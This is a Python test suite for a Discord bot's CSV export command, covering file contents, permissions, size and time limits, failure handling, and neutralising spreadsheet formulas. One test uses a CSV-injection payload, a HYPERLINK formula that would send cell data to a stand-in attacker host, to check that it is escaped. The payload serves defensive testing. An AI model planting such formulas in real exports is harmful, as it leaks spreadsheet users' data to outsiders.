"""/export through the client: a file with all that there is, or a sentence that says why not."""

import csv
import io
import json
import re
from collections.abc import Callable
from dataclasses import replace
from typing import Any, get_args

import pytest
from hypothesis import given
from hypothesis import strategies as st
from psycopg.types.json import Jsonb

from infra.fake_discord.client import Client, Reply
from infra.fake_discord.fake import FakeDiscord
from infra.fake_discord.members import ADMIN, ALICE, BOB
from infra.local.delivery import lambda_sender
from infra.local.runtime import Context
from shared import database
from shared.discord import deferred_reply
from shared.features import export
from shared.features.export import DataSet
from shared.interactions import dispatch, interaction
from tests.conftest import BRAND, Surroundings
from tests.proxy import Proxy, broken, dropped, lost
from tests.shared.features.rows import earned, has_streak, sentence_of, stats
from tests.sql import HOUR, KEY, NOON, Database

Json = dict[str, Any]
CALLBACK, EDIT = "/interactions/*/callback", "/webhooks/*/messages/@original"
VIEWER = replace(ALICE, roles=("900000000000000001",))
SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"


def table(reply: Reply) -> list[dict[str, str]]:
    """The file of a reply, read as spreadsheets do."""
    (content,) = reply.files.values()
    assert content.startswith(b"\xef\xbb\xbf")
    assert content.endswith(b"\r\n")
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.fixture
def rich(server: Client, db: Database, at_noon: None) -> Client:
    """A server in which five members have earned."""
    for number in range(5):
        earned(db, server, f"32000000000000000{number}", number + 0.5, NOON + number * HOUR, reason=f"no. {number}")
    return server


@pytest.fixture
def in_parts(monkeypatch: pytest.MonkeyPatch, rich: Client) -> list[Callable[[], None]]:
    """Parts have two rows; what is in the list is done after each of them."""
    rpc, between = database.rpc, list[Callable[[], None]]()

    def parted(name: str, **arguments: Any) -> Any:
        result = rpc(name, **arguments | ({"rows": 2} if name == "export_rows" else {}))
        for action in between:
            action()
        return result

    monkeypatch.setattr(database, "rpc", parted)
    return between


@pytest.fixture
def calls(local_discord: FakeDiscord) -> Callable[[], list[tuple[str, int]]]:
    """What was called at Discord since, and how it was answered."""
    before = len(local_discord.requests)

    def since() -> list[tuple[str, int]]:
        return [(request.method, request.status) for request in list(local_discord.requests)[before:]]

    return since


# --- What is in the file


def test_rewards_are_the_ledger(rich: Client, db: Database, calls: Callable[[], Any], rpc_calls: list[str]) -> None:
    rpc_calls.clear()
    reply = rich.slash("export", type="rewards", user=ADMIN)
    assert (reply.status, reply.body, reply.ephemeral) == (202, b"", True)
    assert reply.text.startswith("Rewards of this server as a CSV file: 5 rows.\nIn a spreadsheet")
    assert list(reply.files) == ["rewards-2026-03-10.csv"]
    ledger = db.rows("select * from reward_ledger order by id desc")
    rows = table(reply)
    assert [row["id"] for row in rows] == [str(entry["id"]) for entry in ledger]
    for row, entry in zip(rows, ledger, strict=True):
        for column in ("discord_user_id", "event_type", "source", "reason", "actor_id"):
            assert row[column] == entry[column]
        assert (row["amount"], row["balance_after"]) == (str(entry["amount"]), str(entry["balance_after"]))
        assert row["created_at"] == entry["created_at"].strftime("%Y-%m-%dT%H:%M:%S.%fZ")
        assert (row["reference"], row["interaction_id"]) == ("", "")
    assert calls() == [("POST", 204), ("PATCH", 200)]
    assert rpc_calls == ["export_rows"]


def test_the_audit_log_is_every_change(rich: Client, db: Database) -> None:
    rich.slash("config events edit", name="news_tracker", reward=6, user=ADMIN)
    rows = table(rich.slash("export", type="audit", user=ADMIN))
    log = db.rows("select * from discord_audit_log order by id desc")
    assert [(row["id"], row["action"]) for row in rows] == [(str(entry["id"]), entry["action"]) for entry in log]
    assert (rows[0]["action"], rows[0]["actor_id"], rows[0]["actor_type"]) == ("event.updated", ADMIN.id, "admin")
    for state in ("before_state", "after_state"):
        assert json.loads(rows[0][state]) == log[0][state]


def test_members_are_all_who_did_something(rich: Client, db: Database) -> None:
    stats(db, rich, BOB, messages_count=7, reactions_received=3)
    has_streak(db, rich, BOB, 4)
    db.run("insert into disabled_members values (%s, '5', 'spam', '9')", rich.guild_id)
    reply = rich.slash("export", type="members", user=ADMIN)
    rows = {row["discord_user_id"]: row for row in table(reply)}
    assert len(rows) == 7
    assert list(reply.files) == ["members-2026-03-10.csv"]
    bob = rows[BOB.id]
    assert (bob["messages_count"], bob["reactions_received"], bob["current_streak"]) == ("7", "3", "4")
    assert rows["320000000000000004"]["rsnc_total"] == "4.5"
    assert rows["5"]["disabled_reason"] == "spam"


def test_config_is_the_settings_and_the_events(rich: Client) -> None:
    reply = rich.slash("export", type="config", user=ADMIN)
    lines = {row["key"]: row["value"] for row in table(reply)}
    assert lines["server.server_id"] == rich.guild_id
    assert (lines["events.daily_checkin.reward"], lines["events.news_tracker.label"]) == ("25", "News tracker")
    assert reply.text == f"Settings and events of this server as a CSV file: {len(lines)} rows."


def test_nothing_of_another_server_is_in_it(rich: Client, db: Database) -> None:
    other = replace(rich, guild_id="520000000000000009")
    earned(db, other, BOB, 99, reason="elsewhere")
    for kind in ("rewards", "members", "audit", "config"):
        (content,) = rich.slash("export", type=kind, user=ADMIN).files.values()
        assert not {b"elsewhere", other.guild_id.encode(), BOB.id.encode()} & set(re.split(rb"[,\r\n]", content)), kind


def test_the_message_pings_nobody_and_the_file_is_only_for_the_one_who_asked(
    rich: Client, discord_proxy: Proxy
) -> None:
    reply = rich.slash("export", type="rewards", user=ADMIN)
    deferred, edited = discord_proxy.requests
    assert json.loads(deferred.body) == {"type": 5, "data": {"flags": 64}}
    assert b'"allowed_mentions": {"parse": []}' in edited.body
    assert reply.message["attachments"][0]["ephemeral"]
    assert rich.discord is not None
    assert rich.discord.messages(rich.channel_id) == []


def test_parts_make_one_file(rich: Client, in_parts: Any, rpc_calls: list[str], calls: Callable[[], Any]) -> None:
    rpc_calls.clear()
    reply = rich.slash("export", type="rewards", user=ADMIN)
    assert [row["reason"] for row in table(reply)] == [f"no. {number}" for number in (4, 3, 2, 1, 0)]
    assert "5 rows." in reply.text
    assert rpc_calls == ["export_rows"] * 3
    assert calls() == [("POST", 204), ("PATCH", 200)]


def test_what_is_earned_meanwhile_is_left_for_the_next_file(rich: Client, db: Database, in_parts: Any) -> None:
    in_parts.append(lambda: earned(db, rich, BOB, 77))
    assert len(table(rich.slash("export", type="rewards", user=ADMIN))) == 5


# --- Formulas


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("  =1", "'  =1"),
        ("\u00a0=1", "'\u00a0=1"),
        ("\t=1", "'\t'=1"),
        ("\r=1", "'\r'=1"),
        ("\tplain", "'\tplain"),
        ("\nplain", "'\nplain"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("\uff0b1", "'\uff0b1"),
        ("\uff0d1", "'\uff0d1"),
        ("\uff20SUM(A1)", "'\uff20SUM(A1)"),
        ("fine;=1+1", "fine;'=1+1"),
        ("fine\n=1+1", "fine\n'=1+1"),
        ("-", "'-"),
        ("-5", "-5"),
        ("-0.25", "-0.25"),
        ("310000000000000001", "310000000000000001"),
        ("-5;x", "'-5;x"),
        ("\u200b=1", "'\u200b=1"),
        ("\ufeff \u2060=1", "'\ufeff \u2060=1"),
        ("\u202e\u200d\u00ad@x", "'\u202e\u200d\u00ad@x"),
        ("\x00+1", "'\x00+1"),
        ("\ufe0f\U000e0020-x", "'\ufe0f\U000e0020-x"),
        ('"=1+1"', '\'"=1+1"'),
        ("fine;\u200b\u200b=1", "fine;'\u200b\u200b=1"),
        ("fine;; =1", "fine;;' =1"),
        ("fine\n\n;=1;\n@x", "fine\n\n;'=1;\n'@x"),
        ("\u200bfine", "\u200bfine"),
        ("+5", "'+5"),
        ("1-1", "1-1"),
        ("a=b", "a=b"),
        ("somebody@example.org", "somebody@example.org"),
        ('{"a": -1}', '{"a": -1}'),
        ("", ""),
    ],
)
def test_what_a_spreadsheet_would_calculate_is_text(cell: str, written: str) -> None:
    assert export.without_formulas(cell) == written


@given(st.text(alphabet=st.sampled_from(f"{SIGNS} \t\r\n;,'\"a1.\u00a0")))
def test_no_cell_begins_to_calculate_by_commas_or_by_semicolons(text: str) -> None:
    cell = export.without_formulas(text)
    if not re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", text):
        assert not re.match(rf"\s*[{re.escape(SIGNS)}]|[\t\r\n]", cell)
        assert not any(re.match(rf"\s*[{re.escape(SIGNS)}]", part) for part in re.split(r"[;\t\r\n]", cell))
    assert cell.replace("'", "") == text.replace("'", "")


def test_a_reason_that_is_a_formula_arrives_as_text(rich: Client, db: Database) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    earned(db, rich, BOB, 1, reason=formula)
    entry = db.value("select max(id)::text from reward_ledger")
    earned(db, rich, BOB, -3.5, source="reversal", reason='two\nlines, "quoted"', reference=entry)
    newest, before, *_ = table(rich.slash("export", type="rewards", user=ADMIN))
    assert (newest["amount"], newest["reason"]) == ("-3.5", 'two\nlines, "quoted"')
    assert before["reason"] == f"'{formula}"


def test_a_setting_that_is_a_formula_arrives_as_text(rich: Client, db: Database) -> None:
    settings = Jsonb({"admin_channel": "@SUM(A1)"})
    with db.without_triggers():  # from before migration 014
        db.run("update discord_server_configs set config_metadata = %s, server_name = '=1+1'", settings)
    lines = {row["key"]: row["value"] for row in table(rich.slash("export", type="config", user=ADMIN))}
    assert (lines["settings.admin_channel"], lines["server.server_name"]) == ("'@SUM(A1)", "'=1+1")


@pytest.mark.parametrize("part", ["\n", " ", ";", "\n ", "\u200b", "x\n", "=", "\n=", '"', "-;"], ids=ascii)
def test_a_long_cell_takes_time_by_its_length_alone(part: str) -> None:
    """A pattern that looked ahead from each place would not finish: 60,000 line breaks took it 12 seconds."""
    assert len(export.without_formulas(part * 1_000_000 + "x")) <= 2 * len(part) * 1_000_000 + 3


# --- Where not everything fits


def test_a_file_stays_below_the_limit_and_has_the_newest(rich: Client, db: Database) -> None:
    db.run(
        "insert into reward_ledger (server_id, brand_id, discord_user_id, event_type, amount, source, actor_id, reason,"
        " balance_after) select %s, 'b', '7', 'quest', n, 'claim', '7', 'é' || n, 0 from generate_series(1, 300) as n",
        rich.guild_id,
    )
    limit = 20_000
    reply = replace(rich, attachment_size_limit=limit).slash("export", type="rewards", user=ADMIN)
    (content,) = reply.files.values()
    rows = table(reply)
    assert limit - 4096 - 200 < len(content) <= limit - 4096
    assert [row["amount"] for row in rows] == [str(300 - place) for place in range(len(rows))]
    assert f": {len(rows)} rows. Discord takes files of up to 0.02 MB here. Older rows are left out." in reply.text


def test_a_limit_that_cannot_be_true_is_not_believed(rich: Client, monkeypatch: pytest.MonkeyPatch) -> None:
    assert export.LARGEST_REQUEST == 26_214_400  # Discord's 25 MiB
    monkeypatch.setattr(export, "LARGEST_REQUEST", 4096 + 300)
    reply = replace(rich, attachment_size_limit=500 * 2**20).slash("export", type="rewards", user=ADMIN)
    assert 0 < len(table(reply)) < 5
    assert "Older rows are left out" in reply.text


def hurried(client: Client, functions: Any, seconds: float) -> Client:
    """The same members, with a function that is stopped so soon."""
    return replace(
        client, send=lambda_sender(functions.interactions.handler, lambda: Context("interactions", "test", seconds))
    )


def test_where_time_runs_out_the_file_has_the_newest(rich: Client, functions: Any, in_parts: Any) -> None:
    seconds = interaction.SENDING_SECONDS + export.PART_SECONDS
    reply = hurried(rich, functions, seconds).slash("export", type="rewards", user=ADMIN)
    assert [row["reason"] for row in table(reply)] == ["no. 4", "no. 3"]
    assert "2 rows. There was no time for more. Older rows are left out." in reply.text
    reply = hurried(rich, functions, seconds).slash("export", type="members", user=ADMIN)
    assert [row["discord_user_id"][-1] for row in table(reply)] == ["0", "1"]
    assert "The members after the last one in it are left out." in reply.text


# --- Who may, and what refuses it at once


def test_a_viewer_may_and_a_member_may_not(rich: Client, db: Database, calls: Callable[[], Any]) -> None:
    refused = rich.slash("export", type="rewards", user=VIEWER)
    assert (refused.status, refused.kind, refused.ephemeral) == (200, 4, True)
    assert "This needs the level **viewer**" in refused.text
    assert calls() == []
    db.run("update discord_server_configs set config_metadata = %s", Jsonb({"admin_roles": {VIEWER.roles[0]: 1}}))
    assert len(table(rich.slash("export", type="rewards", user=VIEWER))) == 5


def test_what_is_not_there_is_said_at_once(discord: Client, calls: Callable[[], Any]) -> None:
    assert "not connected" in discord.slash("export", type="rewards", user=ADMIN).text
    discord.slash("setup connect", brand_id=BRAND, key=KEY, user=ADMIN)
    for kind, said in (("rewards", "nobody has earned"), ("members", "nobody has done")):
        reply = discord.slash("export", type=kind, user=ADMIN)
        assert (reply.status, reply.ephemeral) == (200, True)
        assert f"There is nothing to export yet: {said} anything in this server." in reply.text
    assert calls() == []


def test_a_level_that_is_lost_meanwhile_ends_it(rich: Client, db: Database, in_parts: Any) -> None:
    roles = Jsonb({"admin_roles": {VIEWER.roles[0]: 1}})
    db.run("update discord_server_configs set config_metadata = %s", roles)
    in_parts.append(lambda: db.run("update discord_server_configs set config_metadata = '{}'") and None)
    reply = rich.slash("export", type="rewards", user=VIEWER)
    assert "This needs the level **viewer**" in reply.text
    assert reply.files == {}


# --- What goes wrong


def test_a_redelivered_command_is_carried_out_once(rich: Client, calls: Callable[[], Any]) -> None:
    first = rich.slash("export", type="rewards", user=ADMIN)
    again = rich.redeliver(first)
    assert (again.status, again.body) == (202, b"")
    assert again.message == first.message
    assert calls() == [("POST", 204), ("PATCH", 200), ("POST", 400)]


@pytest.mark.parametrize(("status", "code"), [(500, 0), (503, 0), (404, 10062), (429, 0), (401, 0)])
def test_where_discord_does_not_wait_the_answer_says_so(
    rich: Client, local_discord: FakeDiscord, calls: Callable[[], Any], status: int, code: int
) -> None:
    local_discord.fail(status, code, path=CALLBACK, retry_after=60)
    reply = rich.slash("export", type="rewards", user=ADMIN)
    assert (reply.status, reply.kind, reply.ephemeral, reply.text) == (200, 4, True, sentence_of("not_deferred", {}))
    assert calls() == [("POST", status)]


def test_where_discord_is_away_the_answer_says_so(rich: Client, discord_proxy: Proxy) -> None:
    discord_proxy.next(dropped)
    assert rich.slash("export", type="rewards", user=ADMIN).text == sentence_of("not_deferred", {})
    assert len(discord_proxy.requests) == 1


def test_a_database_that_leaves_before_says_so_at_once(
    rich: Client, rest_proxy: Proxy, surroundings: Surroundings, calls: Callable[[], Any]
) -> None:
    surroundings.hurry()
    rest_proxy.next(*[broken(503)] * 9)
    reply = rich.slash("export", type="rewards", user=ADMIN)
    assert (reply.status, reply.text) == (200, dispatch.DATABASE_AWAY_FOR_ADMINS)
    assert calls() == []


def test_a_database_that_leaves_midway_is_told(
    rich: Client, rest_proxy: Proxy, in_parts: Any, calls: Callable[[], Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    rest_proxy.next(None, *[broken(503)] * 99)
    monkeypatch.setattr(interaction, "STEP_SECONDS", 0.3)
    reply = rich.slash("export", type="rewards", user=ADMIN)
    assert (reply.status, reply.text, reply.files, reply.ephemeral) == (202, export.DATABASE_AWAY, {}, True)
    assert calls() == [("POST", 204), ("PATCH", 200)]


def test_a_part_that_is_lost_is_asked_for_again(rich: Client, rest_proxy: Proxy, in_parts: Any) -> None:
    rest_proxy.next(None, lost, None, broken(503))
    assert len(table(rich.slash("export", type="rewards", user=ADMIN))) == 5


@pytest.mark.parametrize(("status", "code"), [(413, 40005), (500, 0), (400, 50035), (403, 0)])
def test_a_file_that_discord_refuses_is_told(
    rich: Client, local_discord: FakeDiscord, calls: Callable[[], Any], status: int, code: int
) -> None:
    local_discord.fail(status, code, path=EDIT)
    reply = rich.slash("export", type="rewards", user=ADMIN)
    assert (reply.status, reply.text, reply.files) == (202, sentence_of("file_not_taken", {"limit": 10 * 2**20}), {})
    assert calls() == [("POST", 204), ("PATCH", status), ("PATCH", 200)]


def test_a_file_that_is_larger_than_discord_said_is_told(
    rich: Client, local_discord: FakeDiscord, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export, "HEADROOM", -1000)  # as if we had counted wrong
    reply = replace(rich, attachment_size_limit=300).slash("export", type="rewards", user=ADMIN)
    assert reply.text.startswith("The file was ready, but Discord did not take it.")
    assert local_discord.requests[-2].status == 413


def test_a_file_that_arrived_without_an_answer_is_taken_back(rich: Client, local_discord: FakeDiscord) -> None:
    local_discord.fail(502, path=EDIT, after=True)
    reply = rich.slash("export", type="rewards", user=ADMIN)
    assert (reply.text, reply.files) == (sentence_of("file_not_taken", {"limit": 10 * 2**20}), {})


def test_a_reply_that_is_not_known_at_once_is_tried_again(
    rich: Client, local_discord: FakeDiscord, calls: Callable[[], Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(deferred_reply, "SETTLING_PAUSE", 0.01)
    local_discord.fail(404, 10015, path=EDIT, times=3)
    assert len(table(rich.slash("export", type="rewards", user=ADMIN))) == 5
    assert calls() == [("POST", 204), *[("PATCH", 404)] * 3, ("PATCH", 200)]


def test_where_nothing_can_be_said_the_log_has_it(
    rich: Client, local_discord: FakeDiscord, calls: Callable[[], Any], caplog: pytest.LogCaptureFixture
) -> None:
    local_discord.fail(500, path=EDIT, times=2)
    reply = rich.slash("export", type="rewards", user=ADMIN)
    assert (reply.status, reply.text) == (202, "")
    assert calls() == [("POST", 204), ("PATCH", 500), ("PATCH", 500)]
    assert [record.message for record in caplog.records if record.levelname == "WARNING"] == [
        "file not sent",
        "reply not sent",
    ]


def test_a_bug_midway_is_told(rich: Client, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture) -> None:
    monkeypatch.setattr(export, "exported", None)
    reply = rich.slash("export", type="rewards", user=ADMIN)
    assert (reply.status, reply.text, reply.ephemeral) == (202, dispatch.OUR_FAULT, True)
    assert "interaction failed" in [record.message for record in caplog.records]


def test_a_schema_that_is_behind_is_told_at_once(rich: Client, rest_proxy: Proxy) -> None:
    behind = json.dumps({"code": "PGRST202", "message": "", "details": "", "hint": ""})
    rest_proxy.next(broken(404, behind, content_type="application/json"))
    assert rich.slash("export", type="rewards", user=ADMIN).text == dispatch.SCHEMA_BEHIND


@pytest.mark.parametrize("value", ["users", "", "Rewards", "x" * 100, 5, True])
def test_a_data_set_that_is_not_offered(rich: Client, value: Any, calls: Callable[[], Any]) -> None:
    data = {"name": "export", "options": [{"name": "type", "type": 3, "value": value}]}
    assert "Please check:\n`type`" in rich.interact(2, data, ADMIN).text
    assert calls() == []


# --- Words


WHOLE: dict[str, Any] = {"type": "rewards", "rows": 81_234, "left_out": None, "limit": 10 * 2**20}


@pytest.mark.parametrize(
    ("facts", "said"),
    [
        ({}, "Rewards of this server as a CSV file: 81,234 rows.\nIn a spreadsheet"),
        ({"rows": 1}, "Rewards of this server as a CSV file: 1 row.\nIn a spreadsheet"),
        (
            {"left_out": "size"},
            "81,234 rows. Discord takes files of up to 10 MB here. Older rows are left out.\nIn a",
        ),
        ({"left_out": "size", "limit": 25 * 2**20}, "files of up to 25 MB here"),
        ({"left_out": "time"}, "81,234 rows. There was no time for more. Older rows are left out.\nIn a"),
        ({"type": "audit"}, "Audit log of this server as a CSV file"),
        ({"type": "config", "left_out": "size"}, "The settings after the last one in it are left out."),
        (
            {"type": "members", "left_out": "size"},
            "up to 10 MB here. The members after the last one in it are left out.",
        ),
    ],
)
def test_a_file_is_described(facts: dict[str, Any], said: str) -> None:
    assert said in export.exported(WHOLE | facts)


def test_only_what_has_ids_in_a_column_warns_of_rounding() -> None:
    assert export.exported(WHOLE | {"type": "config"}).endswith(": 81,234 rows.")


def test_every_data_set_has_its_words() -> None:
    kinds = get_args(get_args(DataSet)[0])
    assert set(export.DATA_SETS) == set(kinds) == {*export.NOTHING_YET, "config"}
    for kind in export.NOTHING_YET:
        assert sentence_of("nothing_to_export", {"type": kind}).startswith(
            "There is nothing to export yet: nobody has "
        )


def test_a_refused_file_says_how_large_it_may_be() -> None:
    assert "the 10 MB that Discord allows here" in sentence_of("file_not_taken", {"limit": 10 * 2**20})
